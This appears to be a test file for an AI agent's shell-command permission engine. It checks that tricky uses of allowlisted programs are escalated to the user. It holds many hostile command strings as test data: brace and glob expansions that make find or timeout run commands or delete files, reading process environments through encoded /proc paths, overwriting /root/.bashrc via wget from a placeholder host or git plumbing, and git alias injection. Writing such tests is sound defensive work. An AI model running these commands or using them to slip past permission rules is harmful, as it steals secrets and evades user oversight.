"""Lines a rule for a harmless-looking program must not allow (SPEC P1, P4; "a tool call is
ALLOWed only when we fully understand what it will do").

Each runs code, deletes or writes files, or reads another process's environment, so it is
asked about under rules that allow the program it starts with:

* ``find`` with a word that brace expansion or a glob turns into actions
  (``find . {-exec,sh,-c,id} ;``, ``find . -de*`` beside a file named ``-delete``);
* a wrapper whose duration, option value or command is such a word (``timeout {5,sh,-c,id}``,
  ``chrt $(echo 1 rm x)``), or ``su``/``script``/``runuser``/``sg`` likewise;
* ``python -m pytest`` / ``npm test`` options (``--basetemp=/root/.ssh``, ``-p mod``,
  ``--script-shell=…``) and test files outside the working directory;
* ``curl file:///pro%63/1/environ`` (curl decodes the path), ``curl --engine``;
* ``git branch --edit-description`` (an editor), ``git log --show-signature`` (gpg.program);
* ``cd /dev/fd && cat ../../1/environ`` (``/dev/fd`` is ``/proc/self/fd``).

The lines a rule is written for still pass, so a fix that asks about everything fails here.
"""

from __future__ import annotations

import pytest

from agentworld.policy.engine import PolicyEngine
from agentworld.policy.loader import load_policy_text
from agentworld.policy.rules import PolicyDecision, Tier

ALLOW = PolicyDecision.ALLOW
ASK = PolicyDecision.ASK_USER

_PREFIXES = [
    ["find"], ["timeout"], ["chrt"], ["taskset"], ["flock"], ["faketime"], ["chroot"], ["su"],
    ["script"], ["runuser"], ["sg"], ["echo"], ["ls"], ["cat"], ["cd"], ["curl"],
    ["git", "branch"], ["git", "log"], ["git", "tag"], ["git", "commit"], ["git", "rev-parse"],
    ["python", "-m", "pytest"], ["pytest"], ["npm", "test"], ["npm", "run"], ["yarn", "test"],
    ["env"], ["sudo"], ["wget"], ["git"],
]  # fmt: skip
POLICY = "".join(
    f'[[rule]]\ntoolName = "shell_cmd"\ncommandPrefix = {prefix!r}\ndecision = "allow"\n'
    "priority = 100\n\n"
    for prefix in _PREFIXES
).replace("'", '"')


def decide(command: str) -> PolicyDecision:
    loaded = load_policy_text(POLICY, source="policy.toml", tier=Tier.USER)
    assert loaded.errors == []
    return PolicyEngine(loaded.rules).evaluate("shell_cmd", {"command": command}).decision


@pytest.mark.parametrize(
    "command",
    [
        # find: words that brace expansion or a glob may make actions
        "find . {-exec,sh,-c,id} \\;",
        "find . {-exec,rm} -rf {} +",
        "find . -{delete,print}",
        "find . {-fprint,/tmp/pwned}",
        "find . -exec ls {\\;,-exec,rm} {} \\;",
        "find . -exec echo {} \\; {-delete,-print}",
        "find . -de*",
        "find . -exe? rm {} +",
        "find . *",
        "find $HOME",
        # wrappers: where the command starts is not known before the line runs
        "timeout {5,sh,-c,id}",
        "timeout $(echo 5 rm -rf /tmp/x)",
        "timeout -k1 {5,sh,-c,id}",
        "timeout -k {1,rm,x} 5 echo",
        "timeout *",
        "chrt {1,rm,x}",
        "chrt $(echo 1 rm x)",
        "taskset {1,rm,x}",
        "flock {x,rm}",
        "faketime {x,rm,y}",
        "chroot {/,rm,x}",
        "su {-c,id}",
        "script {-c,id}",
        "runuser {-c,id}",
        "sg {x,rm} y",
        # test runners: options that write, delete, import or send, and code from elsewhere
        "python -m pytest --basetemp=/root/.ssh",
        "python -m pytest --junitxml=/root/.bashrc",
        "python -m pytest --debug=/root/.profile",
        "python -m pytest --pastebin=all",
        "python -m pytest -p evil",
        "python -m pytest -pevil",
        "python -m pytest /tmp/evil_test.py",
        "python -m pytest ../elsewhere/test_x.py",
        "python -m pytest -W error::evil.Category",
        "python -m pytest -o cache_dir=/tmp/x",
        "python -m pytest --base=/tmp/x",
        "python -m pytest $OPTS",
        "pytest --basetemp=/x",
        "pytest ~/tests",
        "npm test --script-shell=/tmp/x",
        "npm test --node-options=--require=/tmp/x.js",
        "npm run build -- --anything",
        "npm test extra",
        # curl: a percent-encoded path into /proc; a crypto engine (a shared library)
        "curl file:///pro%63/1/environ",
        "curl file:///proc%2fself/environ",
        "curl 'file:///%70roc/1/environ'",
        "curl --engine x https://example.com",
        # git: an editor, gpg.program
        "git branch --edit-description",
        "git branch --edit-desc",
        "git log --show-signature",
        "git log --pretty='%GS %h'",
        "git tag -v v1",
        "git tag -s v2 -m x",
        "git commit -S -m x",
        # a directory reached through a symlink into /proc
        "cd /dev/fd && cat ../../1/environ",
        "cd /tmp && cat ../proc/1/environ",
        # siblings of the above
        "env -C /dev/fd cat ../environ",
        "sudo -D /dev/fd cat ../environ",
        "curl 'file:///pro{c,x}/self/environ'",
        "curl 'file:///pro[c-c]/1/environ'",
        "wget -qO- -O /root/.bashrc http://x/p",
        "wget --output-document=- --output-document=/root/.bashrc http://x/p",
        "git bisect view git -c 'alias.x=!id;:' x",
        "git bisect visualize git -c core.pager=sh log",
        "git merge-index sh -a",
        "git interpret-trailers --in-place --trailer='a: $(id)' /root/.bashrc",
        "git checkout-index -f -a --prefix=/root/",
        "git merge-file /root/.bashrc base theirs",
        "git mailinfo /root/.bashrc /dev/null",
        "git mailsplit -o/root/x mbox",
        "git fast-import --export-marks=/root/.bashrc",
        "git maintenance start",
        "git commit -m x -e",
        "git merge -e x",
        "git add -e",
        "git rebase -i HEAD~2",
        "git push --signed",
        "git for-each-ref --format='%(signature)'",
        "git push ../other",
        "git fetch /tmp/other",
        "git archive --remote=../other HEAD",
        "runuser -u root rm x",
        "runuser -u root -- rm x",
        "su <<< 'rm -rf x'",
        "echo 'rm x' | su",
        "su -s /usr/bin/python3 -c 'import os'",
        "script -q /dev/null <<< 'rm x'",
        "chroot / <<< 'rm x'",
        "chroot /tmp/evil ls",
        "python -m pytest @args.txt",
        "yarn test --cwd /tmp/other",
        "yarn test -- --config /tmp/evil.js",
        "npm run env",
    ],
)
def test_a_line_that_misuses_an_allowed_program_is_asked_about(command: str) -> None:
    assert decide(command) == ASK


@pytest.mark.parametrize(
    "command",
    [
        "find . -name '*.py'",
        "find src -type f -name x",
        "timeout 5 echo hi",
        "chrt 1 echo hi",
        "su -c 'echo hi'",
        "python -m pytest",
        "python -m pytest -q",
        "python -m pytest -qx --tb=short -p no:cacheprovider -n 2",
        "python -m pytest -x -k 'foo and not bar' tests/test_a.py::test_b",
        "pytest -q tests",
        "npm test",
        "npm --silent test",
        "npm run build",
        "curl http://127.0.0.1:8000/a%20b",
        "git branch --show-current",
        "git log --oneline -5",
        "git tag -l",
        "git commit -s -m x",
        "git rev-parse --verify HEAD",
        "cd src && cat ../README.md",
        "cd /tmp && ls",
        "curl -sw '%{http_code}' http://x/",
        "wget -qO- http://x/p",
        "git bisect start",
        "git commit -m x",
        "git push origin main",
        "git fetch origin",
        "yarn test",
        "env -C sub cat x",
    ],
)
def test_what_the_rules_were_written_for_still_passes(command: str) -> None:
    assert decide(command) == ALLOW
